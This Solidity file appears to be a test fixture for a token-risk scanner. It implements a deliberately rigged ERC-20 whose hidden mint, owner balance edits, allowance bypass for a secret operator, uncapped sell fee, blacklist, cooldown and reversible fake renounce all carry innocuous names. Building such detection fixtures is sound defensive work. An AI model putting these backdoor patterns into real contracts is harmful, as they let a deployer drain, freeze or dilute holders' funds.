// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {RiskFxBase} from "./RiskFxBase.sol";

/// @title RiskFxRiggedToken
/// @notice Risk fixture with the levers of a rigged token under innocuous
/// names: a hidden mint (syncRewards), an owner balance edit (rebalance), a
/// transferFrom that skips the allowance for the operator, an uncapped fee
/// (setConfig), a blacklist (flag), a cooldown, and a fake renounce (a
/// second admin slot with no setter that can restore ownership).
contract RiskFxRiggedToken is RiskFxBase {
    address public owner;
    address private operator;
    uint256 public fee;
    address public pair;
    mapping(address => bool) private flagged;
    mapping(address => uint256) private lastMove;

    /// @param supply Minted to the deployer.
    constructor(uint256 supply) {
        owner = msg.sender;
        operator = msg.sender;
        _mintTo(msg.sender, supply);
    }

    modifier onlyOwner() {
        require(msg.sender == owner, "owner");
        _;
    }

    /// @notice Gives up ownership (for show).
    function renounceOwnership() external onlyOwner {
        owner = address(0);
    }

    /// @notice The operator restores ownership.
    function restore() external {
        require(msg.sender == operator, "op");
        owner = operator;
    }

    /// @notice Innocuous name, mints.
    function syncRewards(address to, uint256 amount) external {
        require(msg.sender == operator, "op");
        _mintTo(to, amount);
    }

    /// @notice Owner edits a balance.
    function rebalance(address who, uint256 amount) external onlyOwner {
        balanceOf[who] = amount;
    }

    /// @notice Uncapped fee.
    function setConfig(uint256 f) external onlyOwner {
        fee = f;
    }

    /// @notice Sets the pool.
    function setPair(address p) external onlyOwner {
        pair = p;
    }

    /// @notice Flags an address.
    function flag(address who, bool on) external onlyOwner {
        flagged[who] = on;
    }

    /// @notice ERC-20 transfer.
    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    /// @notice ERC-20 transferFrom; the operator needs no allowance.
    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (msg.sender != operator) {
            _spend(from, amount);
        }
        _transfer(from, to, amount);
        return true;
    }

    function _transfer(address from, address to, uint256 amount) internal {
        require(!flagged[from], "flagged");
        require(block.timestamp >= lastMove[from] + 30, "cooldown");
        lastMove[to] = block.timestamp;
        uint256 cut = 0;
        if (to == pair) {
            cut = (amount * fee) / 10000;
        }
        balanceOf[from] -= amount;
        balanceOf[to] += amount - cut;
        balanceOf[owner] += cut;
        emit Transfer(from, to, amount - cut);
    }
}
